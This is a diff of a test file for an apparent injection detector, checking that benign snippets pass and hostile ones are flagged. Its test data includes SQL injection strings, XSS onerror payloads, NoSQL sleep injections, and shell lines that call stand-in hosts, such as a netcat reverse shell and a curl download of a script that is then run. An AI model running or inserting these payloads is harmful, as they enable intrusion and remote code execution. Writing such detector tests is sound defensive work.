@@ -2523,17 +2523,17 @@ t.test('thirty-second round: sweeps of documentation, CI configurations, stylesh
   for (const p of ['a = &id', 'x=1&id', 'return &id']) t.ok(q(p, 'snippet').includes('rce'), `still read outside a program: ${p}`)
   // an element's name quoted as a call's argument or an item
   for (const p of ["var div = document.createElement('div');", "el.querySelector('div')", '$("div")', "x = ['div', 'span']"]) t.same(q(p, 'snippet'), [], p)
-  for (const p of ["'div'", "x' div 1 --", "f('div') union select 1,2--", "('div') or 1=1"]) t.ok(q(p, 'snippet').includes('sqli'), `still read: ${p}`)
+  for (const p of ["'div'", "x' div 1 --", "f('div') union select 1,2--", "('div') or 1=1", "1,'div',1", "x,'div',x", "=('div')", "1=('div')", ":'div':", ',"div",', "a,'div';"]) t.ok(q(p, 'snippet').includes('sqli'), `still read (review): ${p}`)
   // a DOM sink handed a plain text literal
   t.same(q("schemaStatus.innerHTML = 'Schema Empty';", 'snippet'), [], 'innerHTML set to plain text')
   for (const p of ["x.innerHTML = '<img src=x onerror=alert(1)>';", 'x.innerHTML=location.hash', "x.innerHTML = 'a' + location.hash;", 'x.innerHTML = "&#60;img src=x onerror=alert(1)&#62;";']) t.ok(q(p, 'snippet').includes('xss'), `still read: ${p}`)
   // a program's pause: `sleep` as a method or awaited
   for (const p of ['Thread.sleep(1000);', 'await sleep(100);', 'time.sleep(5);']) t.same(q(p, 'where'), [], p)
-  for (const p of ['sleep(5000);', "'; sleep(5000); var x='", 'this.a == 1 && sleep(1000);']) t.ok(q(p, 'where').includes('nosqli'), `still read: ${p}`)
+  for (const p of ['sleep(5000);', "'; sleep(5000); var x='", 'this.a == 1 && sleep(1000);', "'; (function(){return this})().sleep(5000); var x='", "'; typeof await\nsleep(5000); var x='", '1; globalThis.sleep(5000);', "'; Function('return this')().sleep(5000); var x='"]) t.ok(q(p, 'where').includes('nosqli'), `still read (review): ${p}`)
   // a GraphQL document in a program's tagged template literal; a separator or a pipe inside it is still read
   const apollo = (literal: string) => `import { gql } from '@apollo/client'\nimport { useQuery } from '@apollo/client'\n\nconst GET_USER = ${literal}\n\nexport function User({ userId }) {\n  const { data } = useQuery(GET_USER, { variables: { userId } })\n  if (!data) return null\n  return data.user.name\n}\n`
-  for (const literal of ['gql`\n  query GetUser($userId: ID!) {\n    user(id: $userId) {\n      id\n      name\n    }\n  }\n`', 'gql`\n  id\n`', '/* GraphQL */ `\n  { id }\n`']) t.same(field(apollo(literal)), [], literal)
-  for (const literal of ['gql`\n  id;whoami\n`', 'gql`\n  id | nc evil.example 4444\n`']) t.ok(field(apollo(literal)).includes('rce'), `still read: ${literal}`)
+  for (const literal of ['gql`\n  query GetUser($userId: ID!) {\n    user(id: $userId) {\n      id\n      name\n    }\n  }\n`', '/* GraphQL */ `\n  { id }\n`', 'gql`\n  fragment F on User {\n    ...Name\n    avatar(size: 64)\n  }\n`']) t.same(field(apollo(literal)), [], literal)
+  for (const literal of ['gql`\n  id;whoami\n`', 'gql`\n  id | nc evil.example 4444\n`', 'gql`\n  id\n`', 'gql`\n  curl -s -o /tmp/.x http://evil.example/x\n  sh /tmp/.x\n`', 'gql`{\n  nc evil 4444\n}`', 'gql`{\n  wget evil\n}`', 'gql`nc -e /bin/sh 203.0.113.7 4444`']) t.ok(field(apollo(literal)).includes('rce'), `still read (review): ${literal}`)
 })
 
 t.test('thirty-second round: the twenty-second part\'s false positives, by kind', async (t) => {
